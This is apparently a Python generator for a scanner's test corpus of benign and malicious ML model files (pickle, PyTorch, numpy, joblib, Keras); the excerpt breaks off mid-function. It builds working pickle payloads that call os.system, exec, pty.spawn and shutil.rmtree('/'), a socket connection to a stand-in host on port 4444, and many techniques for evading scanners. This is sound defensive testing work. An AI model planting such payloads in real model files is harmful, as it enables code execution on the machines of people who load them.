#!/usr/bin/env python3
"""Writes model-scan's labelled test corpus: malicious and benign files of every format model-scan
reads, including obfuscations, into OUTDIR. Nothing here ever loads, unpickles or executes a payload:
malicious pickles are assembled opcode by opcode (checked with `pickletools.dis`, which only
disassembles), or written by `pickle.dumps` of an object whose `__reduce__` *names* a dangerous
callable (pickling records the reference; it does not call it). Benign files are written by the real
libraries (numpy, joblib, scikit-learn, h5py, zipfile, tarfile), so they look like what users have.

Usage: gen_corpus.py OUTDIR [--big-pickle-mib N]

Layout and manifest (OUTDIR/manifest.json):
  {"files": [{"path": "malicious/pickle/p0_os_system.pkl", "format": "pickle",
              "kind": "attack" | "malformed" | "benign" | "stress",
              "malicious": true | false | null, "technique": "..."}]}
- kind attack / malformed (malicious: true): model-scan must report >= 1 finding at medium or above.
  A malformed model file (truncated, bad header, zip bomb...) is a finding, never "clean".
- kind benign (malicious: false): real-world shaped files, including non-model files (text, CSV, PNG)
  that a content sniffer could mistake for a protocol-0 pickle: model-scan must report nothing.
- kind stress (malicious: null): resource abuse (deep nesting, long runs); any verdict is fine, but
  the scan must finish in bounded time and memory without a panic. They live under OUTDIR/stress/.
Every file written is listed. Paths are relative to OUTDIR, with "/" separators.

--big-pickle-mib N also writes big/huge.pkl (N MiB of array payload, then an os.system call at the
very end), used by bench/model-scan.sh for the peak-memory comparison; it is not in the manifest.
"""

import argparse
import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import pickletools
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib

import h5py
import joblib
import numpy as np

CMD = "echo mlsec-corpus-payload"
MANIFEST = []
OUT = "."


def emit(rel, data, fmt, kind, technique):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if data is not None:
        with open(path, "wb") as f:
            f.write(data)
    malicious = {"attack": True, "malformed": True, "benign": False, "stress": None}[kind]
    MANIFEST.append({"path": rel, "format": fmt, "kind": kind, "malicious": malicious, "technique": technique})
    return path


# ---------------------------------------------------------------- a small pickle assembler
PROTO, FRAME, STOP = b"\x80", b"\x95", b"."
GLOBAL, STACK_GLOBAL = b"c", b"\x93"
REDUCE, BUILD, INST, OBJ, NEWOBJ, NEWOBJ_EX = b"R", b"b", b"i", b"o", b"\x81", b"\x92"
MARK, TUPLE, TUPLE1, TUPLE2, EMPTY_TUPLE = b"(", b"t", b"\x85", b"\x86", b")"
MEMOIZE, BINPUT, BINGET, LONG_BINGET, POP = b"\x94", b"q", b"h", b"j", b"0"
EMPTY_DICT, SETITEM, SETITEMS, EMPTY_LIST, APPEND, APPENDS = b"}", b"s", b"u", b"]", b"a", b"e"
BININT1, BININT, NONE, NEWFALSE, BINFLOAT = b"K", b"J", b"N", b"\x89", b"G"
BINPERSID, EXT1, EXT2 = b"Q", b"\x82", b"\x83"


def u(s):
    """A str: SHORT_BINUNICODE or BINUNICODE."""
    b = s.encode("utf-8")
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def by(data):
    """A bytes object: SHORT_BINBYTES, BINBYTES or BINBYTES8."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    if len(data) < 2**32:
        return b"B" + struct.pack("<I", len(data)) + data
    return b"\x8e" + struct.pack("<Q", len(data)) + data


def s0(s):
    """A protocol-0 STRING."""
    return b"S" + repr(s).encode() + b"\n"


def g(mod, name):
    """GLOBAL (text module/name lines; every protocol)."""
    return GLOBAL + mod.encode() + b"\n" + name.encode() + b"\n"


def sg(mod, name):
    """STACK_GLOBAL with both strings pushed (protocol 4+)."""
    return u(mod) + u(name) + STACK_GLOBAL


def call(fn, *args):
    return fn + MARK + b"".join(args) + TUPLE + REDUCE


def proto(n, body):
    return PROTO + bytes([n]) + body + STOP


def framed(body):
    """Protocol 4 with one FRAME around the body, as pickle.dumps writes it."""
    inner = body + STOP
    return PROTO + b"\x04" + FRAME + struct.pack("<Q", len(inner)) + inner


def checked(data):
    """Disassembles (never loads) to prove the assembled bytes are a well-formed pickle."""
    pickletools.dis(data, out=io.StringIO())
    return data


class Reduce:
    """Pickles as `fn(*args)`: __reduce__ only names the callable; pickling never calls it."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def os_system_pickle(protocol=4):
    return checked(proto(2, call(g("posix", "system"), u(CMD)))) if protocol == 2 else checked(
        framed(call(sg("posix", "system"), u(CMD))))


# ---------------------------------------------------------------- raw pickles
def raw_pickles():
    d = "malicious/pickle/"
    attacks = {
        "p0_os_system.pkl": (g("os", "system") + MARK + s0(CMD) + TUPLE + REDUCE + STOP,
                             "protocol 0 GLOBAL os.system + REDUCE"),
        "p1_posix_system.pkl": (g("posix", "system") + MARK + b"X" + struct.pack("<I", len(CMD)) + CMD.encode()
                                + TUPLE + REDUCE + STOP, "protocol 1 (no PROTO opcode) posix.system"),
        "p2_nt_system.pkl": (proto(2, call(g("nt", "system"), u(CMD))), "protocol 2 nt.system (Windows os)"),
        "p2_builtin_eval_rename.pkl": (proto(2, call(g("__builtin__", "eval"), u("print(1)"))),
                                       "protocol 2 module rename __builtin__ -> builtins.eval"),
        "p3_subprocess_popen.pkl": (proto(3, call(g("subprocess", "Popen"), EMPTY_LIST + MARK + u("sh") + u("-c")
                                                  + u(CMD) + APPENDS)), "subprocess.Popen with an argv list"),
        "p4_exec_stack_global.pkl": (framed(call(sg("builtins", "exec"), u("import os"))),
                                     "STACK_GLOBAL builtins.exec inside a FRAME"),
        "p5_memo_indirection.pkl": (PROTO + b"\x05" + u("os") + MEMOIZE + POP + u("system") + MEMOIZE + POP
                                    + EMPTY_DICT + MEMOIZE + POP + BINGET + b"\x00" + BINGET + b"\x01"
                                    + STACK_GLOBAL + MARK + u(CMD) + TUPLE + REDUCE + STOP,
                                    "module and name strings fetched from the memo (MEMOIZE/BINGET)"),
        "p2_global_via_binput.pkl": (proto(2, g("os", "system") + BINPUT + b"\x07" + POP + EMPTY_DICT + POP
                                           + BINGET + b"\x07" + MARK + u(CMD) + TUPLE + REDUCE),
                                     "callable stored with BINPUT, called later through BINGET"),
        "p4_long_binget.pkl": (PROTO + b"\x04" + u("subprocess") + BINPUT + b"\x00" + POP + u("check_output")
                               + BINPUT + b"\x01" + POP + LONG_BINGET + struct.pack("<I", 0) + LONG_BINGET
                               + struct.pack("<I", 1) + STACK_GLOBAL + MARK + u(CMD) + TUPLE + REDUCE + STOP,
                               "LONG_BINGET memo indirection to subprocess.check_output"),
        "p4_getattr_import_chain.pkl": (framed(call(call(sg("builtins", "getattr"), call(sg("builtins", "__import__"),
                                                                                          u("os")), u("system")),
                                                    u(CMD))),
                                        "getattr(__import__('os'), 'system')(cmd)"),
        "p0_inst.pkl": (MARK + s0(CMD) + INST + b"os\nsystem\n" + STOP, "INST opcode (class + args in one)"),
        "p1_obj.pkl": (MARK + g("os", "system") + b"X" + struct.pack("<I", len(CMD)) + CMD.encode() + OBJ + STOP,
                       "OBJ opcode"),
        "p2_newobj_popen.pkl": (proto(2, g("subprocess", "Popen") + MARK + u(CMD) + TUPLE + NEWOBJ),
                                "NEWOBJ on subprocess.Popen"),
        "p4_newobj_ex.pkl": (framed(sg("subprocess", "Popen") + MARK + u(CMD) + TUPLE + EMPTY_DICT + NEWOBJ_EX),
                             "NEWOBJ_EX on subprocess.Popen"),
        "p4_nested_pickle.pkl": (framed(call(sg("pickle", "loads"), by(os_system_pickle()))),
                                 "pickle.loads of an inner malicious pickle"),
        "p2_nested_cpickle_twice.pkl": (proto(2, call(g("_pickle", "loads"),
                                                      by(proto(2, call(g("pickle", "loads"), by(os_system_pickle(2))))))),
                                        "_pickle.loads of a pickle.loads of os.system (two levels)"),
        "p4_runpy.pkl": (framed(call(sg("runpy", "_run_code"), u("import os"), EMPTY_DICT)), "runpy._run_code"),
        "p4_importlib.pkl": (framed(call(call(sg("builtins", "getattr"), call(sg("importlib", "import_module"),
                                                                               u("os")), u("system")), u(CMD))),
                             "importlib.import_module + getattr"),
        "p4_webbrowser.pkl": (framed(call(sg("webbrowser", "open"), u("https://attacker.invalid/x"))),
                              "webbrowser.open"),
        "p4_pip_main.pkl": (framed(call(sg("pip", "main"), EMPTY_LIST + u("install") + APPEND + u("evil-pkg")
                                        + APPEND)), "pip.main(['install', ...])"),
        "p4_shutil_rmtree.pkl": (framed(call(sg("shutil", "rmtree"), u("/"))), "shutil.rmtree"),
        "p4_socket.pkl": (framed(call(sg("socket", "create_connection"), MARK + u("203.0.113.7") + BININT
                                      + struct.pack("<i", 4444) + TUPLE)), "socket.create_connection"),
        "p4_pty_spawn.pkl": (framed(call(sg("pty", "spawn"), u("/bin/sh"))), "pty.spawn"),
        "p4_operator_methodcaller.pkl": (framed(call(call(sg("operator", "methodcaller"), u("system"), u(CMD)),
                                                     call(sg("builtins", "__import__"), u("os")))),
                                         "operator.methodcaller('system', cmd)(__import__('os'))"),
        "p4_functools_partial.pkl": (framed(call(call(sg("functools", "partial"), sg("os", "system"), u(CMD)))),
                                     "functools.partial(os.system, cmd)()"),
        "p4_marshal_function.pkl": (framed(call(call(sg("types", "FunctionType"),
                                                     call(sg("marshal", "loads"),
                                                          by(marshal.dumps(compile("0", "<x>", "eval")))),
                                                     EMPTY_DICT))),
                                    "types.FunctionType(marshal.loads(code), {})()"),
        "p2_ext_code.pkl": (proto(2, EXT1 + b"\xf0" + MARK + u(CMD) + TUPLE + REDUCE),
                            "copyreg extension code (EXT1) instead of a named global"),
        "p4_unknown_global.pkl": (framed(sg("evil_corp.payload", "Runner") + EMPTY_TUPLE + REDUCE),
                                  "a global that is on no list (unknown = finding)"),
        "p4_numpy_runstring.pkl": (framed(call(sg("numpy.testing._private.utils", "runstring"), u("import os"),
                                               EMPTY_DICT)), "numpy.testing runstring (exec in a numpy module)"),
        "p4_timeit.pkl": (framed(call(sg("timeit", "timeit"), u("import os"))), "timeit.timeit(stmt) executes stmt"),
        "p4_cprofile_run.pkl": (framed(call(sg("cProfile", "run"), u("import os"))), "cProfile.run executes code"),
        "p4_ctypes.pkl": (framed(call(sg("ctypes", "CDLL"), u("libc.so.6"))), "ctypes.CDLL"),
        "p4_code_interact.pkl": (framed(call(sg("code", "interact"))), "code.interact"),
        "p4_os_popen.pkl": (framed(call(sg("os", "popen"), u(CMD))), "os.popen"),
        "p4_posix_execv.pkl": (framed(call(sg("posix", "execv"), u("/bin/sh"), EMPTY_LIST)), "posix.execv"),
        "p4_os_spawnlp.pkl": (framed(call(sg("os", "spawnlp"), BININT1 + b"\x00", u("sh"), u("sh"))), "os.spawnlp"),
        "p4_compile_exec.pkl": (framed(call(sg("builtins", "exec"), call(sg("builtins", "compile"), u("1"), u("x"),
                                                                           u("exec")))), "builtins.compile + exec"),
        "p4_sys_modules_getitem.pkl": (framed(call(call(sg("builtins", "getattr"),
                                                        call(sg("operator", "getitem"), sg("sys", "modules"), u("os")),
                                                        u("system")), u(CMD))),
                                       "operator.getitem(sys.modules, 'os') + getattr"),
        "p0_unicode_escaped_names.pkl": (b"Vo\\u0073\nVsyst\\u0065m\n" + STACK_GLOBAL + MARK + s0(CMD) + TUPLE
                                         + REDUCE + STOP,
                                         "STACK_GLOBAL with raw-unicode-escape obfuscated names (V opcode)"),
        "p4_setstate_build.pkl": (framed(sg("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + MARK
                                         + u("__setstate__") + sg("os", "system") + u("x") + u("y") + TUPLE + BUILD),
                                  "dangerous callable smuggled as a BUILD state value"),
    }
    for name, (data, technique) in attacks.items():
        emit(d + name, checked(data), "pickle", "attack", technique)

    # Two pickles back to back: the loader of the first is safe; whoever loads the rest is not.
    emit(d + "concat_benign_then_evil.pkl", pickle.dumps({"a": 1}, protocol=4) + os_system_pickle(),
         "pickle", "attack", "a benign pickle followed by a malicious one in the same file")
    # The call at the very end, behind 2 MB of floats: scanners with a read limit miss it.
    floats = b"".join(BINFLOAT + struct.pack(">d", i * 0.5) for i in range(220_000))
    emit(d + "late_payload_2mb.pkl", checked(PROTO + b"\x04" + EMPTY_LIST + MARK + floats + APPENDS + POP
                                             + call(sg("os", "system"), u(CMD)) + STOP),
         "pickle", "attack", "os.system after 2 MB of benign data")
    # Unknown or no extensions: scanners that pick files by name skip these.
    emit("malicious/odd-names/model.weights", os_system_pickle(), "pickle", "attack", "pickle with a .weights name")
    emit("malicious/odd-names/checkpoint", os_system_pickle(2), "pickle", "attack", "pickle with no extension")
    emit("malicious/odd-names/tokenizer.dat", checked(proto(3, call(g("builtins", "exec"), u("import os")))),
         "pickle", "attack", "pickle named .dat")
    # Pickled by the real pickler from an object whose __reduce__ names a dangerous callable.
    emit(d + "dumps_reduce_system.pkl", pickle.dumps({"w": [1.0, 2.0], "x": Reduce(os.system, CMD)}, protocol=4),
         "pickle", "attack", "pickle.dumps of an object whose __reduce__ returns os.system")
    emit(d + "dumps_reduce_eval_p2.pkl", pickle.dumps([Reduce(eval, "1+1")], protocol=2),
         "pickle", "attack", "pickle.dumps protocol 2 with builtins.eval")

    b = "benign/pickle/"
    plain = {"name": "resnet", "layers": [1, 2, 3], "lr": 1e-3, "ok": True, "none": None, "t": (1, "x"), "b": b"xy"}
    for p in range(6):
        emit(f"{b}plain_p{p}.pkl", pickle.dumps(plain, protocol=p), "pickle", "benign",
             f"plain containers, protocol {p} (protocol 2-3 bytes use _codecs.encode)")
    import collections
    import datetime
    import decimal
    rich = {"od": collections.OrderedDict(a=1), "s": {1, 2}, "fs": frozenset({3}), "ba": bytearray(b"ab"),
            "c": 1 + 2j, "dd": collections.defaultdict(list, {"k": [1]}), "cnt": collections.Counter("aab"),
            "dt": datetime.datetime(2026, 1, 2, 3, 4, 5), "d": datetime.date(2026, 1, 2),
            "td": datetime.timedelta(days=1), "dec": decimal.Decimal("1.25"), "sl": slice(1, 5), "r": range(3)}
    for p in (2, 4):
        emit(f"{b}stdlib_types_p{p}.pkl", pickle.dumps(rich, protocol=p), "pickle", "benign",
             f"OrderedDict, set, frozenset, bytearray, complex, defaultdict, Counter, datetime, Decimal, slice, range (p{p})")
    arr = np.arange(12, dtype=np.float32).reshape(3, 4)
    for p in (2, 4, 5):
        emit(f"{b}numpy_array_p{p}.pkl", pickle.dumps({"w": arr, "s": np.float64(1.5), "i": np.int64(3),
                                                       "dt": np.dtype([("a", "<i4"), ("b", "<f8")])}, protocol=p),
             "pickle", "benign", f"numpy arrays, scalars and a structured dtype (p{p})")
    bufs = []
    emit(f"{b}numpy_out_of_band_p5.pkl", pickle.dumps(arr, protocol=5, buffer_callback=bufs.append),
         "pickle", "benign", "protocol 5 out-of-band buffer (NEXT_BUFFER/READONLY_BUFFER)")
    emit(f"{b}sklearn_logreg.pkl", pickle.dumps(sklearn_model(), protocol=4), "pickle", "benign",
         "a fitted scikit-learn Pipeline(StandardScaler, LogisticRegression)")
    emit(f"{b}model.bin", pickle.dumps({"vocab": {"a": 0, "b": 1}}, protocol=2), "pickle", "benign",
         "a benign pickle under an unknown extension")

    m = "malformed/pickle/"
    good = os_system_pickle()
    emit(m + "truncated.pkl", pickle.dumps(plain, protocol=4)[:-9], "pickle", "malformed", "cut before STOP")
    emit(m + "bad_opcode.pkl", PROTO + b"\x04" + b"\xff" + STOP, "pickle", "malformed", "opcode 0xff")
    emit(m + "huge_memo_index.pkl", PROTO + b"\x04" + LONG_BINGET + b"\xff\xff\xff\xff" + STOP, "pickle", "malformed",
         "LONG_BINGET 4294967295 on an empty memo")
    emit(m + "stack_underflow.pkl", PROTO + b"\x04" + STACK_GLOBAL + STOP, "pickle", "malformed",
         "STACK_GLOBAL on an empty stack")
    emit(m + "length_beyond_eof.pkl", PROTO + b"\x04" + b"X" + b"\xff\xff\xff\x7f" + b"abc", "pickle", "malformed",
         "BINUNICODE length 2 GiB in a 10-byte file")
    emit(m + "binbytes8_huge.pkl", PROTO + b"\x04" + b"\x8e" + b"\xff" * 8 + b"x", "pickle", "malformed",
         "BINBYTES8 length 2^64-1")
    emit(m + "frame_lies.pkl", PROTO + b"\x04" + FRAME + struct.pack("<Q", 1 << 40) + good[11:], "pickle",
         "malformed", "FRAME length 1 TiB around a malicious body")

    s = "stress/pickle/"
    depth = 200_000
    emit(s + "deep_lists.pkl", PROTO + b"\x04" + EMPTY_LIST * depth + APPEND * (depth - 1) + STOP, "pickle", "stress",
         f"{depth} nested lists")
    emit(s + "many_marks.pkl", PROTO + b"\x04" + MARK * depth + STOP, "pickle", "stress", f"{depth} MARKs")
    emit(s + "memo_flood.pkl", PROTO + b"\x04" + (NONE + MEMOIZE + POP) * depth + NONE + STOP, "pickle", "stress",
         f"{depth} memo entries")
    emit(s + "sparse_memo.pkl", PROTO + b"\x04" + NONE + b"r" + struct.pack("<I", 0xFFFFFFF0) + STOP, "pickle",
         "stress", "LONG_BINPUT at index 4294967280")


def sklearn_model():
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    x = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
    return make_pipeline(StandardScaler(), LogisticRegression()).fit(x, [0, 1, 1, 0])


# ---------------------------------------------------------------- PyTorch
def torch_state_pickle(evil=None):
    """A protocol-2 state dict pickle as torch.save writes it: tensors rebuilt by
    torch._utils._rebuild_tensor_v2 from persistent storages (BINPERSID)."""
    tensor = (g("torch._utils", "_rebuild_tensor_v2") + MARK
              + MARK + u("storage") + g("torch", "FloatStorage") + u("0") + u("cpu") + BININT1 + b"\x04" + TUPLE
              + BINPERSID + BININT1 + b"\x00" + BININT1 + b"\x02" + BININT1 + b"\x02" + TUPLE2
              + BININT1 + b"\x02" + BININT1 + b"\x01" + TUPLE2 + NEWFALSE
              + g("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE)
    items = u("fc.weight") + tensor + u("fc.bias") + g("torch._utils", "_rebuild_parameter") + MARK + tensor \
        + b"\x88" + g("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE
    if evil is not None:
        items += u("zz_extra") + evil
    body = g("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + MARK + items + SETITEMS \
        + MARK + u("_metadata") + g("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + b"d" + BUILD
    return checked(proto(2, body))


def torch_zip(entries, prefix="archive", compress=zipfile.ZIP_STORED, zip64=False, junk=b""):
    buf = io.BytesIO()
    buf.write(junk)
    with zipfile.ZipFile(buf, "w", compression=compress) as z:
        for name, data in entries:
            with z.open(f"{prefix}/{name}" if prefix else name, "w", force_zip64=zip64) as f:
                f.write(data)
    return buf.getvalue()


def torch_files():
    evil = call(g("posix", "system"), u(CMD))
    benign_pkl, evil_pkl = torch_state_pickle(), torch_state_pickle(evil)
    storage = struct.pack("<4f", 1, 2, 3, 4)

    def std(pkl):
        return [("data.pkl", pkl), ("byteorder", b"little"), ("data/0", storage), ("version", b"3\n"),
                (".data/serialization_id", b"1234567890")]

    emit("benign/torch/state_dict.pt", torch_zip(std(benign_pkl)), "pytorch-zip", "benign",
         "torch.save layout: archive/data.pkl + storages")
    emit("benign/torch/deflated.pth", torch_zip(std(benign_pkl), compress=zipfile.ZIP_DEFLATED), "pytorch-zip",
         "benign", "deflate-compressed entries")
    emit("benign/torch/pickle_bytes_in_storage.pt",
         torch_zip([("data.pkl", benign_pkl), ("data/0", os_system_pickle()), ("version", b"3\n")]),
         "pytorch-zip", "benign", "a storage whose raw bytes happen to look like a malicious pickle")
    d = "malicious/torch/"
    emit(d + "state_dict.pt", torch_zip(std(evil_pkl)), "pytorch-zip", "attack", "posix.system inside data.pkl")
    emit(d + "odd_prefix.bin", torch_zip(std(evil_pkl), prefix="resnet50 (copy) v2"), "pytorch-zip", "attack",
         "odd top-level directory name and a .bin extension")
    emit(d + "deflated.pth", torch_zip(std(evil_pkl), compress=zipfile.ZIP_DEFLATED), "pytorch-zip", "attack",
         "deflate-compressed data.pkl")
    emit(d + "zip64.pt", torch_zip(std(evil_pkl), zip64=True), "pytorch-zip", "attack", "zip64 entries")
    emit(d + "junk_prefix.pt", torch_zip(std(evil_pkl), junk=b"\x00" * 4096), "pytorch-zip", "attack",
         "4 KiB of junk before the zip (offsets from the central directory)")
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the trick
        emit(d + "duplicate_entry.pt", torch_zip([("data.pkl", benign_pkl), ("data.pkl", evil_pkl),
                                                  ("version", b"3\n")]), "pytorch-zip", "attack",
             "two data.pkl entries: benign first, malicious second")
    emit(d + "extra_pickle_entry.pt", torch_zip(std(benign_pkl) + [("extra/hooks.pkl", os_system_pickle())]),
         "pytorch-zip", "attack", "a second pickle entry beside a benign data.pkl")
    emit(d + "no_prefix.pt", torch_zip([("data.pkl", evil_pkl), ("version", b"3\n")], prefix=""), "pytorch-zip",
         "attack", "data.pkl at the zip root")

    # Legacy tar format (torch < 0.1.10): sys_info, pickle, storages, tensors.
    def legacy_tar(pkl):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
            for name, data in [("sys_info", pickle.dumps({"little_endian": True}, protocol=2)), ("pickle", pkl),
                               ("storages", pickle.dumps([], protocol=2)), ("tensors", pickle.dumps([], protocol=2))]:
                info = tarfile.TarInfo(name)
                info.size, info.mtime = len(data), 0
                t.addfile(info, io.BytesIO(data))
        return buf.getvalue()

    emit("benign/torch/legacy.tar", legacy_tar(benign_pkl), "pytorch-tar", "benign", "legacy tar checkpoint")
    emit(d + "legacy.tar", legacy_tar(evil_pkl), "pytorch-tar", "attack", "legacy tar with a malicious 'pickle'")

    # Legacy non-zip torch.save (protocol 2 stream of pickles, then raw storages).
    def legacy_stream(pkl):
        parts = [pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2), pickle.dumps(1001, protocol=2),
                 pickle.dumps({"protocol_version": 1001, "little_endian": True,
                               "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
                 pkl, pickle.dumps(["0"], protocol=2), struct.pack("<q", 4) + storage]
        return b"".join(parts)

    emit("benign/torch/legacy_stream.pt", legacy_stream(benign_pkl), "pytorch-legacy", "benign",
         "pre-1.6 torch.save: magic, protocol, sys_info, data pickles + raw storage")
    emit(d + "legacy_stream.pt", legacy_stream(evil_pkl), "pytorch-legacy", "attack",
         "pre-1.6 torch.save with a malicious data pickle (4th pickle)")
    emit(d + "legacy_stream_sysinfo.pt", legacy_stream(benign_pkl).replace(
        pickle.dumps(1001, protocol=2), os_system_pickle(2), 1), "pytorch-legacy", "attack",
        "pre-1.6 torch.save with the payload in the 2nd (protocol version) pickle")


# ---------------------------------------------------------------- numpy
def npy_bytes(array=None, header=None, payload=b""):
    buf = io.BytesIO()
    if array is not None:
        np.save(buf, array, allow_pickle=True)
        return buf.getvalue()
    hdr = repr(header).encode()
    pad = 64 - (10 + len(hdr) + 1) % 64
    hdr = hdr + b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + payload


def numpy_files():
    a = np.linspace(0, 1, 1000).reshape(10, 100)
    emit("benign/numpy/weights.npy", npy_bytes(a), "npy", "benign", "float64 array")
    emit("benign/numpy/fortran.npy", npy_bytes(np.asfortranarray(a.astype(np.float16))), "npy", "benign",
         "Fortran-order float16")
    emit("benign/numpy/objects.npy", npy_bytes(np.array([{"a": 1}, "text", 3.5], dtype=object)), "npy", "benign",
         "object array of plain values (a pickle of safe globals)")
    for name, fn in [("arrays.npz", np.savez), ("compressed.npz", np.savez_compressed)]:
        buf = io.BytesIO()
        fn(buf, w=a, b=np.arange(5), labels=np.array(["cat", "dog"]))
        emit("benign/numpy/" + name, buf.getvalue(), "npz", "benign", f"np.{fn.__name__} of three arrays")
    evil_npy = npy_bytes(header={"descr": "|O", "fortran_order": False, "shape": (1,)}, payload=os_system_pickle(2))
    emit("malicious/numpy/object.npy", evil_npy, "npy", "attack", "object dtype; the pickle calls posix.system")
    for name, comp in [("mixed.npz", zipfile.ZIP_STORED), ("mixed_compressed.npz", zipfile.ZIP_DEFLATED)]:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression=comp) as z:
            z.writestr("w.npy", npy_bytes(a))
            z.writestr("evil.npy", evil_npy)
        emit("malicious/numpy/" + name, buf.getvalue(), "npz", "attack", "a malicious object array beside a float one")
    emit("malformed/numpy/bad_header.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 40) + b"{'descr': '<f8', 'shape"
         + b" " * 10, "npy", "malformed", "header dict cut off")
    emit("malformed/numpy/short_data.npy", npy_bytes(a)[:-100], "npy", "malformed", "array data shorter than shape")


# ---------------------------------------------------------------- joblib
def joblib_files():
    tmp = os.path.join(OUT, ".tmp")
    os.makedirs(tmp, exist_ok=True)

    def dump(obj, compress=0):
        p = os.path.join(tmp, "x")
        joblib.dump(obj, p, compress=compress)
        with open(p, "rb") as f:
            return f.read()

    arrays = {"coef": np.arange(5000, dtype=np.float64), "classes": np.array(["no", "yes"]), "intercept": 0.5}
    comps = [("", 0), (".z", ("zlib", 3)), (".gz", ("gzip", 3)), (".bz2", ("bz2", 3)), (".lzma", ("lzma", 3)),
             (".xz", ("xz", 3))]
    for ext, c in comps:
        kind = c[0] if c else "none"
        emit(f"benign/joblib/arrays.joblib{ext}", dump(arrays, c), "joblib", "benign",
             f"joblib.dump of numpy arrays, compression {kind}")
    emit("benign/joblib/sklearn_pipeline.joblib", dump(sklearn_model()), "joblib", "benign",
         "joblib.dump of a fitted scikit-learn pipeline")
    emit("benign/joblib/array_bytes_look_evil.joblib",
         dump({"blob": np.frombuffer(os_system_pickle() * 8, dtype=np.uint8)}), "joblib", "benign",
         "a uint8 array whose raw bytes are a malicious pickle (must be skipped, not parsed)")
    evil = {"coef": np.arange(5000, dtype=np.float64), "zz_hook": Reduce(os.system, CMD)}
    for ext, c in comps:
        kind = c[0] if c else "none"
        emit(f"malicious/joblib/after_array.joblib{ext}", dump(evil, c), "joblib", "attack",
             f"posix.system hidden after a numpy array in the stream, compression {kind}")
    between = {"a": np.ones((64, 64)), "m": Reduce(eval, "1"), "z": np.zeros(3000, dtype=np.int32)}
    emit("malicious/joblib/between_arrays.pkl", dump(between), "joblib", "attack",
         "builtins.eval between two arrays, .pkl name")
    emit("malformed/joblib/truncated.joblib.z", dump(arrays, ("zlib", 3))[:-50], "joblib", "malformed",
         "zlib stream cut short")
    shutil.rmtree(tmp)


# ---------------------------------------------------------------- Keras
def lambda_code_b64():
    # compile() only builds a code object; nothing runs. Keras stores marshal bytes in base64.
    code = compile("lambda x: __import__('os').system('echo mlsec-corpus-payload') or x", "<lambda>", "eval")
    return base64.b64encode(marshal.dumps(code)).decode()


def keras3_config(with_lambda, nested=False):
    dense = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 1,
                                                                         "activation": "sigmoid"},
             "registered_name": None}
    layers = [{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4]},
               "registered_name": None}, dense]
    if with_lambda:
        lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
               "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {
                   "code": lambda_code_b64(), "defaults": None, "closure": None}}}}
        if nested:
            lam = {"module": "keras", "class_name": "Sequential", "registered_name": None,
                   "config": {"name": "inner", "layers": [lam]}}
        layers.insert(1, lam)
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": layers},
            "registered_name": None, "build_config": {"input_shape": [None, 4]}}


def h5_bytes(model_config=None, as_bytes=False):
    tmp = os.path.join(OUT, ".tmp.h5")
    with h5py.File(tmp, "w") as f:
        if model_config is not None:
            text = json.dumps(model_config)
            f.attrs["model_config"] = text.encode() if as_bytes else text
            f.attrs["keras_version"] = "2.15.0"
            f.attrs["backend"] = "tensorflow"
        grp = f.create_group("model_weights/dense")
        grp.create_dataset("kernel:0", data=np.ones((4, 1), dtype=np.float32))
    with open(tmp, "rb") as fh:
        data = fh.read()
    os.remove(tmp)
    return data


def keras_zip(config):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2026-01-01@00:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", h5_bytes())
    return buf.getvalue()


def keras2_config(with_lambda):
    layers = [{"class_name": "Dense", "config": {"name": "dense", "units": 1, "activation": "sigmoid"}}]
    if with_lambda:
        layers.insert(0, {"class_name": "Lambda", "config": {"name": "lambda", "function": [lambda_code_b64(), None,
                                                                                            None],
                                                             "function_type": "lambda", "output_shape": None}})
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}


def keras_files():
    emit("benign/keras/model.keras", keras_zip(keras3_config(False)), "keras", "benign", "Keras 3 zip, Dense only")
    emit("malicious/keras/lambda.keras", keras_zip(keras3_config(True)), "keras", "attack",
         "Keras 3 Lambda layer with marshalled bytecode")
    emit("malicious/keras/nested_lambda.keras", keras_zip(keras3_config(True, nested=True)), "keras", "attack",
         "Lambda inside a nested Sequential")
    emit("benign/keras/model.h5", h5_bytes(keras2_config(False)), "keras-h5", "benign", "Keras 2 HDF5, Dense only")
    emit("benign/keras/weights_only.h5", h5_bytes(None), "keras-h5", "benign", "HDF5 weights, no model_config")
    emit("malicious/keras/lambda.h5", h5_bytes(keras2_config(True)), "keras-h5", "attack",
         "Keras 2 HDF5 Lambda (variable-length string attribute)")
    emit("malicious/keras/lambda_fixed.h5", h5_bytes(keras2_config(True), as_bytes=True), "keras-h5", "attack",
